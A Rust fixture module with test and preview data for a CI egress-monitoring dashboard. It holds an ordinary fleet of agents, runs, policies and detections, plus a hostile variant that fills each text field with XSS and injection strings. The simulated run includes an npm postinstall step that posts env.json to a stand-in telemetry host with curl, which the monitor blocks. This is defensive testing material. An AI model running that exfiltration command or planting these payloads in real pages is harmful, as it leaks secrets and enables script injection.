//! Data for tests and previews: an ordinary fleet, and one whose every text is hostile.

pub(crate) mod baseline;
pub(crate) mod notifications;

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::Arc;

use runward_detect::{Confidence, Severity};
use runward_event::{
    ConnectOutcome, EventKind, FileDiff, JobIdentity, Mode, PolicyRule, ProcessId, Protocol,
    Provider, Reason, Status, Tier, Time,
};
use runward_report::{
    Ancestor, Blocked, ContentChange, Counts, Dependency, Destination as ReportDestination,
    Detection as Finding, Ecosystem, Exit, FileChangeKind, FileRow, NetworkRow, ProcessDetail,
    ProcessRow, Report, Statuses,
};
use runward_store::{
    About, Agent, ApiKey, AttachedPolicy, AuditEntry, Day, Deleted, Destination, Detection,
    DetectionStatus, Field, HiddenBy, KeyScope, KnownJob, Matcher, Millis, Observation, OrgId,
    Overview, Policy, PolicyAttachment, PolicyScope, PolicyVersion, Project, ProjectId,
    ProjectSummary, Role, Run, RunState, Sighting, Suppression, Tag, Tags, Trust, User, Visibility,
    Went,
};

/// 2026-08-01 09:30:12 UTC.
pub(super) const NOW: Millis = 1_785_576_612_000;
const MINUTE: Millis = 60_000;
const HOUR: Millis = 60 * MINUTE;
const DAY: Millis = 24 * HOUR;

/// Where texts of a job come from: as jobs have them, or as an attacker would.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Kind {
    Ordinary,
    Hostile,
}

impl Kind {
    /// The text, or a hostile one in its place.
    fn text(self, ordinary: &str) -> String {
        match self {
            Kind::Ordinary => ordinary.to_owned(),
            Kind::Hostile => hostile(ordinary),
        }
    }
}

/// Everything at once that a text can try on a page.
pub(super) fn hostile(ordinary: &str) -> String {
    let long = "A".repeat(10_000);
    format!(
        "<script>alert('{ordinary}')</script>\"'><img src=x onerror=alert(1)> onclick=\"x\" style=\"x\" javascript:alert(1)\n\
         \u{202e}txt.exe\u{200b}\x1b[2J\0&amp;</textarea></title></style><!--{long}<script>end</script>"
    )
}

pub(super) fn agent() -> Agent {
    agents(Kind::Ordinary).remove(0)
}

pub(super) fn agents(kind: Kind) -> Vec<Agent> {
    let well = Agent {
        id: 1,
        host: kind.text("runner-01.build.example"),
        version: kind.text("0.1.0"),
        tier: Some(Tier::A),
        kernel: kind.text("6.12.41-amd64"),
        requested_mode: Some(Mode::Block),
        effective_mode: Some(Mode::Block),
        last_seen_at: NOW - 4000,
        running: 2,
        lost_events: 0,
    };
    vec![
        well.clone(),
        Agent {
            id: 2,
            host: kind.text("runner-02.build.example"),
            tier: Some(Tier::B),
            kernel: kind.text("5.15.0-139-generic"),
            last_seen_at: NOW - 23 * MINUTE,
            running: 1,
            ..well.clone()
        },
        Agent {
            id: 3,
            host: kind.text("runner-03.build.example"),
            effective_mode: Some(Mode::Audit),
            last_seen_at: NOW - 3 * HOUR,
            running: 0,
            lost_events: 1204,
            ..well.clone()
        },
        Agent {
            id: 4,
            host: kind.text("arm-01.build.example"),
            running: 0,
            last_seen_at: NOW - 40 * MINUTE,
            ..well
        },
    ]
}

pub(super) fn project(kind: Kind) -> Project {
    Project {
        id: ProjectId(3),
        org: OrgId(1),
        provider: Provider::Github,
        name: kind.text("northwind/web-shop"),
        visibility: Visibility::Private,
    }
}

pub(super) fn projects(kind: Kind) -> Vec<ProjectSummary> {
    [
        (
            3,
            "northwind/web-shop",
            Provider::Github,
            1204,
            6 * MINUTE,
            31,
            4,
            Visibility::Private,
        ),
        (
            4,
            "northwind/payments",
            Provider::Gitlab,
            418,
            41 * MINUTE,
            0,
            0,
            Visibility::Private,
        ),
        (
            5,
            "northwind/docs",
            Provider::Github,
            96,
            26 * HOUR,
            0,
            0,
            Visibility::Public,
        ),
        (
            6,
            "infrastructure/images",
            Provider::Gitea,
            12,
            9 * DAY,
            2,
            1,
            Visibility::Private,
        ),
    ]
    .into_iter()
    .map(
        |(id, name, provider, runs, past, blocked_runs, open_detections, visibility)| {
            ProjectSummary {
                project: Project {
                    id: ProjectId(id),
                    org: OrgId(1),
                    provider,
                    name: kind.text(name),
                    visibility,
                },
                runs,
                last_run_at: Some(NOW - past),
                blocked_runs,
                open_detections,
            }
        },
    )
    .collect()
}

/// Two policies in use, and one that is not.
pub(super) fn policies(kind: Kind) -> Vec<Policy> {
    [
        (
            7,
            "northwind-base",
            Mode::Audit,
            2,
            20 * DAY,
            "what every job needs",
        ),
        (
            9,
            "release-jobs",
            Mode::Block,
            14,
            3 * HOUR,
            "uploads go to the new registry",
        ),
        (11, "try-out", Mode::Block, 1, 40 * MINUTE, ""),
    ]
    .into_iter()
    .map(|(id, name, mode, number, past, note)| Policy {
        id,
        name: kind.text(name),
        newest: PolicyVersion {
            number,
            mode,
            note: if note.is_empty() {
                String::new()
            } else {
                kind.text(note)
            },
            by: kind.text("admin@northwind.example"),
            at: NOW - past,
        },
        archived_at: None,
    })
    .collect()
}

pub(super) const POLICY: &str = "\
# Jobs that publish.
egress-policy: block
allowed-endpoints:
  - \"@github-actions\"
  - registry.packages.example:443
  - endpoint: upload.northwind.example:443
    steps: [Publish]
    reason: the finished archive
denied-endpoints:
  - 169.254.169.254
";

pub(super) fn policy_versions(kind: Kind) -> Vec<PolicyVersion> {
    (12..=14)
        .rev()
        .map(|number| PolicyVersion {
            number,
            mode: if number == 12 {
                Mode::Audit
            } else {
                Mode::Block
            },
            note: if number == 13 {
                String::new()
            } else {
                kind.text("uploads go to the new registry")
            },
            by: kind.text("admin@northwind.example"),
            at: NOW - 3 * HOUR - (14 - number) * 5 * DAY,
        })
        .collect()
}

pub(super) fn attachments(kind: Kind) -> Vec<PolicyAttachment> {
    let (pipeline, job) = (
        kind.text(".github/workflows/release.yml"),
        kind.text("publish"),
    );
    let name = kind.text("northwind/web-shop");
    [
        (7, PolicyScope::Org),
        (9, PolicyScope::Pipeline(ProjectId(3), pipeline.clone())),
        (9, PolicyScope::Project(ProjectId(5))),
        (7, PolicyScope::Job(ProjectId(3), pipeline, job)),
    ]
    .into_iter()
    .zip(1..)
    .map(|((policy, scope), id)| PolicyAttachment {
        id,
        policy,
        project_name: scope.project().map(|_| name.clone()),
        scope,
        by: kind.text("admin@northwind.example"),
        at: NOW - id * DAY,
    })
    .collect()
}

/// What is attached where the runs' job lies, the one in effect first.
pub(super) fn attached_policies(kind: Kind) -> Vec<AttachedPolicy> {
    [(1, 1), (0, 0)]
        .into_iter()
        .map(|(policy, attachment)| AttachedPolicy {
            policy: policies(kind).swap_remove(policy),
            text: POLICY.to_owned(),
            attachment: attachments(kind).swap_remove(attachment),
        })
        .collect()
}

pub(super) fn known_jobs(kind: Kind) -> Vec<KnownJob> {
    ["publish", "build", "test"]
        .into_iter()
        .map(|job| KnownJob {
            project: ProjectId(3),
            pipeline: kind.text(".github/workflows/ci.yml"),
            job: kind.text(job),
        })
        .collect()
}

pub(super) fn run(kind: Kind) -> Run {
    Run {
        number: 88,
        id: "5f0c3a1e9b7d4c2688aa10ff42e6d913".to_owned(),
        project: ProjectId(3),
        project_name: kind.text("northwind/web-shop"),
        provider: Provider::Github,
        pipeline: kind.text(".github/workflows/ci.yml"),
        job: kind.text("build"),
        provider_run: Some(kind.text("16788123456")),
        attempt: Some(2),
        branch: Some(kind.text("main")),
        commit: Some(kind.text("9f1c2d7e0a4b5c6d7e8f90123456789abcdef012")),
        actor: Some(kind.text("release-bot")),
        trigger: Some(kind.text("push")),
        url: Some(match kind {
            Kind::Ordinary => "https://ci.example/northwind/web-shop/runs/16788123456".to_owned(),
            Kind::Hostile => "javascript:alert(1)//https://ci.example".to_owned(),
        }),
        command: kind.text("make all"),
        requested_mode: Some(Mode::Block),
        effective_mode: Some(Mode::Block),
        tier: Some(Tier::A),
        host: kind.text("runner-01.build.example"),
        state: RunState::Finished,
        started_at: NOW - 14 * MINUTE,
        last_seen_at: NOW - 11 * MINUTE,
        duration_ms: Some(187_400),
        exit_code: Some(0),
        events: 4312,
        processes: 14,
        connections: 11,
        destinations: 6,
        blocked: 3,
        file_changes: 5,
        detections: 2,
        lost: 0,
        tags: Tags::default()
            .with(Tag::BlockedCall)
            .with(Tag::OverwrittenFile),
        events_deleted: None,
        detections_deleted: None,
    }
}

/// A run that has been kept for so long that only its row is left.
pub(super) fn old_run(kind: Kind) -> Run {
    Run {
        started_at: NOW - 101 * DAY,
        last_seen_at: NOW - 101 * DAY,
        detections: 0,
        events_deleted: Some(Deleted {
            at: NOW - 71 * DAY,
            after_days: 30,
        }),
        detections_deleted: Some(Deleted {
            at: NOW - 11 * DAY,
            after_days: 90,
        }),
        ..run(kind)
    }
}

/// Where a run went, as the store knows it.
pub(super) fn went(kind: Kind) -> Vec<Went> {
    let place = |destination, name: &str, blocked| Went {
        destination,
        observation: Observation {
            destination: kind.text(name),
            connections: 7,
            blocked,
            bytes_sent: 52_310,
            bytes_received: 9_204_512,
            program: kind.text("/usr/bin/curl"),
        },
    };
    vec![
        place(1, "collect.telemetry.example:443", 3),
        place(2, "registry.packages.example:443", 0),
    ]
}

/// A run that is under way, in a weaker mode than was asked for, with holes in its record.
pub(super) fn troubled_run(kind: Kind) -> Run {
    Run {
        requested_mode: Some(Mode::Block),
        effective_mode: Some(Mode::Audit),
        tier: Some(Tier::B),
        state: RunState::Running,
        duration_ms: None,
        exit_code: None,
        lost: 1207,
        started_at: NOW - 94_000,
        last_seen_at: NOW - 1000,
        tags: Tags::default().with(Tag::Loss).with(Tag::NewDestination),
        ..run(kind)
    }
}

/// A run of which nothing came for so long that nothing is expected.
pub(super) fn silent_run(kind: Kind) -> Run {
    Run {
        state: RunState::Silent,
        duration_ms: None,
        exit_code: None,
        started_at: NOW - 5 * HOUR,
        last_seen_at: NOW - 4 * HOUR,
        tags: Tags::default().with(Tag::NotMonitored),
        url: None,
        ..run(kind)
    }
}

pub(super) fn runs(kind: Kind) -> Vec<Run> {
    let base = run(kind);
    let quiet = Run {
        blocked: 0,
        detections: 0,
        tags: Tags::default(),
        attempt: None,
        ..base.clone()
    };
    vec![
        Run {
            id: "00000000000000000000000000000001".to_owned(),
            ..troubled_run(kind)
        },
        base,
        Run {
            id: "00000000000000000000000000000002".to_owned(),
            job: kind.text("integration-tests (postgres 17, chromium)"),
            started_at: NOW - 22 * MINUTE,
            duration_ms: Some(742_000),
            exit_code: Some(2),
            destinations: 41,
            ..quiet.clone()
        },
        Run {
            id: "00000000000000000000000000000003".to_owned(),
            project_name: kind.text("northwind/payments"),
            pipeline: kind.text(".gitlab-ci.yml"),
            job: kind.text("unit"),
            branch: Some(kind.text("feature/settle-refunds-in-batches-of-a-day")),
            actor: Some(kind.text("mreyes")),
            trigger: Some(kind.text("merge_request_event")),
            started_at: NOW - 41 * MINUTE,
            duration_ms: Some(64_300),
            destinations: 9,
            ..quiet.clone()
        },
        Run {
            id: "00000000000000000000000000000004".to_owned(),
            ..silent_run(kind)
        },
        Run {
            id: "00000000000000000000000000000005".to_owned(),
            project_name: kind.text("northwind/docs"),
            pipeline: kind.text(".github/workflows/pages.yml"),
            job: kind.text("publish"),
            effective_mode: Some(Mode::Audit),
            requested_mode: Some(Mode::Audit),
            branch: None,
            commit: None,
            actor: None,
            trigger: Some(kind.text("schedule")),
            started_at: NOW - 26 * HOUR,
            duration_ms: Some(31_000),
            destinations: 4,
            tags: Tags::default().with(Tag::NewDestination),
            ..quiet
        },
    ]
}

pub(super) fn overview() -> Overview {
    let days = (0..30)
        .map(|i: i64| {
            let runs = (i * 7) % 23 + (i / 3) + if i % 7 > 4 { 0 } else { 18 };
            Day {
                start: NOW - NOW % DAY - (29 - i) * DAY,
                runs,
                blocking: runs * (20 + i * 2) / 100,
                blocked: [0, 0, 2, 0, 0, 9, 0, 1, 0, 0, 0, 3][usize::try_from(i).unwrap() % 12],
                detections: [0, 0, 1, 0, 0, 4, 0, 1, 0, 0, 0, 2][usize::try_from(i).unwrap() % 12],
            }
        })
        .collect();
    Overview {
        days,
        projects: 4,
        jobs: 23,
        blocking_jobs: 14,
        open_detections: 5,
        hidden_detections: 12,
        running: 1,
        destinations: 112,
    }
}

pub(super) fn detections(kind: Kind) -> Vec<Detection> {
    let base = Detection {
        id: 41,
        kind: "outbound-call-blocked".to_owned(),
        severity: "high".to_owned(),
        title: kind.text("/usr/bin/node (pid 2214), started by sh, during postinstall of the npm package left-example@1.2.3, tried to reach collect.telemetry.example:443: no line of the policy allows it"),
        subject: kind.text("collect.telemetry.example:443"),
        program: kind.text("/usr/bin/node"),
        run: "5f0c3a1e9b7d4c2688aa10ff42e6d913".to_owned(),
        project: ProjectId(3),
        project_name: kind.text("northwind/web-shop"),
        pipeline: kind.text(".github/workflows/ci.yml"),
        job: kind.text("build"),
        at: NOW - 13 * MINUTE,
        about: About::Destination,
        status: DetectionStatus::New,
        hidden_by: None,
        decided_by: None,
        comment: None,
    };
    vec![
        base.clone(),
        Detection {
            id: 40,
            kind: "source-code-overwritten".to_owned(),
            title: kind.text("/usr/bin/node (pid 2214) overwrote src/checkout/session.ts, which git tracks, during postinstall of the npm package left-example@1.2.3"),
            subject: kind.text("src/checkout/session.ts"),
            about: About::File,
            ..base.clone()
        },
        Detection {
            id: 33,
            severity: "medium".to_owned(),
            title: kind.text("/usr/bin/curl (pid 811) tried to reach 203.0.113.77:8443: no line of the policy allows it"),
            subject: kind.text("203.0.113.77:8443"),
            program: kind.text("/usr/bin/curl"),
            job: kind.text("integration-tests (postgres 17, chromium)"),
            at: NOW - 7 * HOUR,
            ..base.clone()
        },
        Detection {
            id: 12,
            kind: kind.text("agent-tampered"),
            severity: kind.text("low"),
            status: DetectionStatus::Resolved,
            decided_by: Some(kind.text("admin@northwind.example")),
            comment: Some(kind.text("The test suite of the sandbox does this on purpose; see its README.")),
            at: NOW - 12 * DAY,
            ..base
        },
    ]
}

/// What the second rule of [`suppressions`] hides.
pub(super) fn hidden_detections(kind: Kind) -> Vec<Detection> {
    let by = HiddenBy {
        rule: 7,
        name: kind.text("The licence scanner phones home"),
    };
    let hidden = detections(kind).into_iter().take(3);
    hidden
        .map(|detection| Detection {
            status: DetectionStatus::Suppressed,
            hidden_by: Some(by.clone()),
            ..detection
        })
        .collect()
}

pub(super) fn suppressions(kind: Kind) -> Vec<Suppression> {
    // The text of a pattern is bounded where it comes in.
    let pattern = |ordinary: &str| -> String {
        kind.text(ordinary)
            .replace('\0', "")
            .chars()
            .take(500)
            .collect()
    };
    let matcher = |patterns: &[(Field, &str)]| {
        let patterns: Vec<(Field, String)> = patterns
            .iter()
            .map(|(field, text)| (*field, pattern(text)))
            .collect();
        Matcher::parse(patterns.iter().map(|(field, text)| (*field, text.as_str()))).unwrap()
    };
    let scanner = Suppression {
        id: 7,
        name: kind.text("The licence scanner phones home"),
        matcher: matcher(&[
            (Field::Kind, "outbound-call-blocked"),
            (Field::Host, "*.scanner.example"),
            (Field::Program, "*/license-scan"),
        ]),
        reason: kind.text("It asks for news of itself, and works without. The vendor has promised a switch for the next version."),
        created_by: kind.text("admin@northwind.example"),
        created_at: NOW - 3 * DAY,
        expires_at: Some(NOW + 27 * DAY),
        ended_at: None,
        ended_by: None,
        hides: 12,
        given_back: 0,
        busy: false,
    };
    vec![
        Suppression {
            id: 9,
            name: kind.text("Generated lock files"),
            matcher: matcher(&[
                (Field::Project, "northwind/web-*"),
                (Field::Job, "update-dependencies"),
                (Field::Kind, "source-code-overwritten"),
                (Field::File, "*.lock"),
            ]),
            reason: kind.text("This job is there to rewrite them."),
            created_at: NOW - 2 * HOUR,
            expires_at: None,
            hides: 0,
            busy: true,
            ..scanner.clone()
        },
        scanner.clone(),
        Suppression {
            id: 5,
            name: kind.text("Move of the registry"),
            created_at: NOW - 18 * DAY,
            expires_at: Some(NOW - 4 * DAY),
            ended_at: Some(NOW - 4 * DAY),
            hides: 0,
            given_back: 3,
            ..scanner.clone()
        },
        Suppression {
            id: 4,
            name: kind.text("Sandbox tests"),
            created_at: NOW - 29 * DAY,
            ended_at: Some(NOW - 20 * DAY),
            ended_by: Some(kind.text("admin@northwind.example")),
            hides: 0,
            given_back: 1204,
            ..scanner
        },
    ]
}

pub(super) fn detection_counts(kind: Kind) -> Vec<(String, DetectionStatus, i64)> {
    vec![
        ("outbound-call-blocked".to_owned(), DetectionStatus::New, 3),
        (
            "outbound-call-blocked".to_owned(),
            DetectionStatus::Resolved,
            17,
        ),
        (
            "source-code-overwritten".to_owned(),
            DetectionStatus::New,
            2,
        ),
        (kind.text("agent-tampered"), DetectionStatus::Resolved, 1),
        (
            "outbound-call-blocked".to_owned(),
            DetectionStatus::Suppressed,
            12,
        ),
    ]
}

pub(super) fn destinations(kind: Kind) -> Vec<Destination> {
    [
        (
            "registry.packages.example:443",
            2,
            903,
            23,
            48_211,
            0,
            "/usr/bin/node",
        ),
        (
            "collect.telemetry.example:443",
            13,
            2,
            1,
            4,
            3,
            "/usr/bin/node",
        ),
        (
            "objects.storage.example:443",
            14,
            877,
            20,
            12_044,
            0,
            "/usr/bin/git",
        ),
        ("203.0.113.77:8443", 420, 1, 1, 2, 2, "/usr/bin/curl"),
        (
            "index.crates.example:443",
            900,
            214,
            6,
            31_402,
            0,
            "/usr/bin/cargo",
        ),
        (
            "ntp.time.example:123",
            2000,
            12,
            2,
            12,
            0,
            "/usr/sbin/chronyd",
        ),
    ]
    .into_iter()
    .zip(1..)
    .map(
        |((destination, minutes, runs, jobs, connections, blocked, program), id)| Destination {
            id,
            destination: kind.text(destination),
            runs,
            jobs,
            connections,
            blocked,
            first_seen_at: NOW - 80 * DAY - minutes * MINUTE,
            last_seen_at: NOW - minutes * MINUTE,
            programs: vec![kind.text(program), kind.text("/usr/bin/curl")],
        },
    )
    .collect()
}

pub(super) fn sightings(kind: Kind) -> Vec<Sighting> {
    (0..6)
        .map(|i| Sighting {
            run: format!("{i:032x}"),
            number: 88 - i,
            project: ProjectId(3),
            project_name: kind.text("northwind/web-shop"),
            pipeline: kind.text(".github/workflows/ci.yml"),
            job: kind.text("build"),
            started_at: NOW - i * 47 * MINUTE - 9 * MINUTE,
            observation: Observation {
                destination: kind.text("collect.telemetry.example:443"),
                connections: 2 + i,
                blocked: if i < 2 { 1 } else { 0 },
                bytes_sent: 1400 * (i + 1),
                bytes_received: 93_000 * i,
                program: kind.text("/usr/bin/node"),
            },
        })
        .collect()
}

pub(super) fn keys(kind: Kind) -> Vec<ApiKey> {
    let key = ApiKey {
        id: 7,
        name: kind.text("web-shop runners"),
        prefix: kind.text("rwk_9f2c"),
        org: OrgId(1),
        project: Some(ProjectId(3)),
        scope: KeyScope::Ingest,
        created_at: NOW - 61 * DAY,
        used_at: Some(NOW - MINUTE),
        revoked_at: None,
    };
    vec![
        key.clone(),
        ApiKey {
            id: 6,
            name: kind.text("weekly report"),
            prefix: kind.text("rwk_11ab"),
            project: None,
            scope: KeyScope::Read,
            used_at: Some(NOW - 3 * DAY),
            ..key.clone()
        },
        ApiKey {
            id: 2,
            name: kind.text("trial"),
            prefix: kind.text("rwk_c0de"),
            project: Some(ProjectId(99)),
            scope: KeyScope::Admin,
            used_at: None,
            revoked_at: Some(NOW - 40 * DAY),
            ..key
        },
    ]
}

pub(super) fn users(kind: Kind) -> Vec<User> {
    [
        ("admin@northwind.example", Role::Admin, true),
        ("audit@northwind.example", Role::Auditor, false),
    ]
    .into_iter()
    .zip(1..)
    .map(|((login, role, password), id)| User {
        id,
        login: kind.text(login),
        password_hash: password.then(|| "not shown anywhere".to_owned()),
        subject: None,
        org: OrgId(1),
        role,
    })
    .collect()
}

pub(super) fn trusts(kind: Kind) -> Vec<Trust> {
    ["northwind/*", "partner/app"]
        .into_iter()
        .zip(1..)
        .map(|(pattern, id)| Trust {
            id,
            org: OrgId(1),
            issuer: kind.text("https://ci.example"),
            pattern: kind.text(pattern),
            created_at: NOW - HOUR,
        })
        .collect()
}

pub(super) fn audit(kind: Kind) -> Vec<AuditEntry> {
    [
        (2 * MINUTE, "detection.resolve", "detection 12"),
        (3 * HOUR, "api-key.create", "web-shop runners (rwk_9f2c)"),
        (30 * HOUR, "project.visibility", "northwind/docs: public"),
        (61 * DAY, "member.add", "audit@northwind.example: auditor"),
    ]
    .into_iter()
    .zip(1..)
    .map(|((past, act, subject), id)| AuditEntry {
        id,
        at: NOW - past,
        who: kind.text("admin@northwind.example"),
        act: kind.text(act),
        subject: kind.text(subject),
    })
    .collect()
}

fn at(millis: u64) -> Time {
    Time::from_unix_nanos((u64::try_from(NOW).unwrap() - 840_000 + millis) * 1_000_000)
}

pub(super) fn process() -> ProcessRow {
    ProcessRow {
        process: ProcessId(1),
        pid: 2100,
        parent: None,
        parent_known: true,
        start: at(0),
        end: Some(at(187_400)),
        exe: "/usr/bin/make".to_owned(),
        args: vec!["make".to_owned(), "all".to_owned()],
        cwd: "/home/runner/web-shop".to_owned(),
        uid: Some(1001),
        container: None,
        forked_only: false,
        earlier: Vec::new(),
        exit: Some(Exit {
            code: Some(0),
            signal: None,
        }),
        step: None,
        dependency: None,
        truncated: Vec::new(),
    }
}

fn dependency(kind: Kind) -> Dependency {
    Dependency {
        ecosystem: Ecosystem::Npm,
        name: kind.text("left-example"),
        version: Some(kind.text("1.2.3")),
        phase: Some(kind.text("postinstall")),
    }
}

/// Number, parent, start and end in milliseconds, program, command, step, whether a package's script, exit code.
type Program<'a> = (
    u64,
    Option<u64>,
    u64,
    u64,
    &'a str,
    &'a str,
    &'a str,
    bool,
    i32,
);

/// Milliseconds, process, name, address, port, bytes sent and received, why it was stopped, what it said.
type Call<'a> = (
    u64,
    u64,
    &'a str,
    &'a str,
    u16,
    u64,
    u64,
    Option<Reason>,
    Option<&'a str>,
);

fn processes(kind: Kind) -> Vec<ProcessRow> {
    [
        (
            1,
            None,
            0,
            187_400,
            "/usr/bin/make",
            "make all",
            "Build",
            false,
            0,
        ),
        (
            2,
            Some(1),
            40,
            60_200,
            "/usr/bin/npm",
            "npm ci",
            "Install",
            false,
            0,
        ),
        (
            3,
            Some(2),
            90,
            60_100,
            "/usr/bin/node",
            "node /usr/lib/node_modules/npm/bin/npm-cli.js ci",
            "Install",
            false,
            0,
        ),
        (
            4,
            Some(3),
            21_000,
            24_800,
            "/bin/sh",
            "sh -e scripts/run-postinstall.sh",
            "Install",
            true,
            1,
        ),
        (
            5,
            Some(4),
            21_020,
            24_700,
            "/usr/bin/node",
            "node scripts/postinstall.js --quiet",
            "Install",
            true,
            1,
        ),
        (
            6,
            Some(5),
            22_100,
            22_300,
            "/usr/bin/curl",
            "curl -fsS -X POST -d @env.json https://collect.telemetry.example/v1/e",
            "Install",
            true,
            7,
        ),
        (
            7,
            Some(3),
            31_000,
            58_000,
            "/usr/bin/node",
            "node node-gyp rebuild",
            "Install",
            false,
            0,
        ),
        (
            8,
            Some(7),
            31_900,
            57_800,
            "/usr/bin/python3",
            "python3 gyp_main.py binding.gyp",
            "Install",
            false,
            0,
        ),
        (
            9,
            Some(1),
            60_400,
            171_000,
            "/usr/bin/node",
            "node node_modules/.bin/vite build",
            "Build",
            false,
            0,
        ),
        (
            10,
            Some(9),
            60_900,
            170_200,
            "/home/runner/web-shop/node_modules/esbuild/bin/esbuild",
            "esbuild --service=0.21.5 --ping",
            "Build",
            false,
            0,
        ),
        (
            11,
            Some(1),
            171_300,
            187_000,
            "/usr/bin/git",
            "git push origin HEAD:refs/tags/build-88",
            "Publish",
            false,
            0,
        ),
        (
            12,
            Some(11),
            171_500,
            186_600,
            "/usr/lib/git-core/git-remote-https",
            "git-remote-https origin https://git.example/northwind/web-shop",
            "Publish",
            false,
            0,
        ),
        (13, Some(99), 172_000, 172_100, "", "", "Publish", false, 0),
        (
            14,
            Some(1),
            186_900,
            187_300,
            "/usr/bin/make",
            "make all",
            "Publish",
            false,
            0,
        ),
    ]
    .into_iter()
    .map(
        |(id, parent, start, end, exe, command, step, postinstall, code): Program<'_>| ProcessRow {
            process: ProcessId(id),
            pid: 2099 + u32::try_from(id).unwrap() * 19,
            parent: parent.filter(|p| *p != 99).map(ProcessId),
            parent_known: parent != Some(99),
            start: at(start),
            end: Some(at(end)),
            exe: if exe.is_empty() {
                String::new()
            } else {
                kind.text(exe)
            },
            args: command
                .split_whitespace()
                .map(|word| kind.text(word))
                .collect(),
            forked_only: id == 14,
            exit: Some(Exit {
                code: Some(code),
                signal: None,
            }),
            step: Some(kind.text(step)),
            dependency: postinstall.then(|| dependency(kind)),
            ..process()
        },
    )
    .collect()
}

/// Every so many rows under one process, for trying how a large tree behaves.
pub(super) fn large_report(rows: u64) -> Report {
    let mut report = report(Kind::Ordinary);
    for (next, i) in (100..).zip(0..rows) {
        let parent = if i % 10 == 0 { 9 } else { next - 1 - (i % 3) };
        report.processes.push(ProcessRow {
            process: ProcessId(next),
            pid: u32::try_from(4000 + i).unwrap(),
            parent: Some(ProcessId(parent)),
            exe: ["/usr/bin/cc", "/usr/bin/as", "/usr/bin/ld"][usize::try_from(i % 3).unwrap()]
                .to_owned(),
            args: vec![
                "cc".to_owned(),
                "-O2".to_owned(),
                "-c".to_owned(),
                format!("src/part-{i}.c"),
            ],
            start: at(60_000 + i),
            end: Some(at(61_000 + i)),
            ..process()
        });
    }
    report
}

fn detail(kind: Kind, rows: &[ProcessRow], id: u64) -> Arc<ProcessDetail> {
    let find = |id: u64| rows.iter().find(|row| row.process.0 == id).unwrap();
    let own = find(id);
    let mut lineage = Vec::new();
    let mut above = own.parent;
    while let Some(up) = above {
        let row = find(up.0);
        lineage.push(Arc::new(Ancestor {
            process: row.process,
            pid: row.pid,
            exe: row.exe.clone(),
            args: row.args.clone(),
            truncated: Vec::new(),
        }));
        above = row.parent;
    }
    Arc::new(ProcessDetail {
        process: own.process,
        pid: own.pid,
        exe: own.exe.clone(),
        args: own.args.clone(),
        lineage,
        lineage_complete: kind == Kind::Ordinary,
        truncated: if kind == Kind::Hostile {
            vec![hostile("args")]
        } else {
            Vec::new()
        },
    })
}

fn network(kind: Kind, rows: &[ProcessRow]) -> Vec<NetworkRow> {
    [
        (
            1_900,
            3,
            "registry.packages.example",
            "198.51.100.14",
            443,
            12_400,
            4_210_000,
            None,
            None,
        ),
        (
            2_400,
            3,
            "registry.packages.example",
            "198.51.100.14",
            443,
            9_100,
            18_900_000,
            None,
            None,
        ),
        (
            2_900,
            3,
            "registry.packages.example",
            "198.51.100.15",
            443,
            48_000,
            61_200_000,
            None,
            None,
        ),
        (
            22_130,
            6,
            "collect.telemetry.example",
            "203.0.113.9",
            443,
            0,
            0,
            Some(Reason::NotAllowed),
            None,
        ),
        (
            22_190,
            5,
            "objects.storage.example",
            "198.51.100.30",
            443,
            310,
            0,
            Some(Reason::SniMismatch),
            Some("paste.drop.example"),
        ),
        (
            22_260,
            5,
            "",
            "203.0.113.77",
            8443,
            0,
            0,
            Some(Reason::NotAllowed),
            None,
        ),
        (
            33_100,
            8,
            "headers.node.example",
            "198.51.100.61",
            443,
            940,
            9_800_000,
            None,
            None,
        ),
        (61_500, 10, "", "127.0.0.1", 5173, 2_000, 18_000, None, None),
        (
            171_900,
            12,
            "git.example",
            "198.51.100.80",
            443,
            88_000,
            4_100,
            None,
            None,
        ),
        (
            172_300,
            12,
            "git.example",
            "2001:db8::50",
            443,
            402_000,
            3_300,
            None,
            None,
        ),
        (
            186_000,
            12,
            "objects.storage.example",
            "198.51.100.30",
            443,
            9_000_000,
            1_200,
            None,
            None,
        ),
    ]
    .into_iter()
    .map(
        |(ms, id, name, ip, port, sent, received, reason, said): Call<'_>| {
            let blocked = reason.is_some();
            let row = rows.iter().find(|row| row.process.0 == id).unwrap();
            let ip: IpAddr = ip.parse().unwrap();
            NetworkRow {
                time: at(ms),
                process: detail(kind, rows, id),
                destination: if name.is_empty() {
                    format!("{ip}:{port}")
                } else {
                    kind.text(&format!("{name}:{port}"))
                },
                name: (!name.is_empty()).then(|| kind.text(name)),
                ip,
                port,
                protocol: Protocol::Tcp,
                status: if blocked {
                    Status::Blocked
                } else {
                    Status::Allowed
                },
                reason,
                rule: (!blocked).then_some(u32::from(port == 443) + 1),
                said: said.map(|said| kind.text(said)),
                outcome: (!blocked).then_some(if ip.is_loopback() {
                    ConnectOutcome::Failed
                } else {
                    ConnectOutcome::Established
                }),
                bytes_sent: (!blocked || said.is_some()).then_some(sent),
                bytes_received: (!blocked || said.is_some()).then_some(received),
                duration_seconds: (!blocked).then_some(1.5),
                step: row.step.as_deref().map(Arc::from),
                dependency: row.dependency.clone().map(Arc::new),
            }
        },
    )
    .collect()
}

fn files(kind: Kind, rows: &[ProcessRow]) -> Vec<FileRow> {
    [
        (
            22_000,
            5,
            FileChangeKind::Write,
            "src/checkout/session.ts",
            true,
        ),
        (60_100, 3, FileChangeKind::Write, "package-lock.json", false),
        (
            120_000,
            9,
            FileChangeKind::Create,
            "dist/assets/index-4f0b1c.js",
            false,
        ),
        (120_300, 9, FileChangeKind::Create, "dist/index.html", false),
        (
            130_000,
            9,
            FileChangeKind::Rename,
            "dist/manifest.json",
            false,
        ),
    ]
    .into_iter()
    .map(
        |(ms, id, change, path, changed): (u64, u64, FileChangeKind, &str, bool)| {
            let row = rows.iter().find(|row| row.process.0 == id).unwrap();
            let tracked = changed || path.starts_with("package");
            FileRow {
                time: at(ms),
                kind: change,
                path: kind.text(path),
                from: (change == FileChangeKind::Rename)
                    .then(|| kind.text("dist/.manifest.json.tmp")),
                tracked,
                changed,
                hash_before: tracked.then(|| kind.text("8a1f00c2be5522f1a7d6c8e94d0de3b15a90c7aa")),
                hash_after: tracked.then(|| {
                    kind.text(if changed {
                        "e07b9d4410c4f3e8be3a0f9fa5b1ce56c2d8f0e1"
                    } else {
                        "8a1f00c2be5522f1a7d6c8e94d0de3b15a90c7aa"
                    })
                }),
                found_at_end: false,
                process: Some(detail(kind, rows, id)),
                step: row.step.as_deref().map(Arc::from),
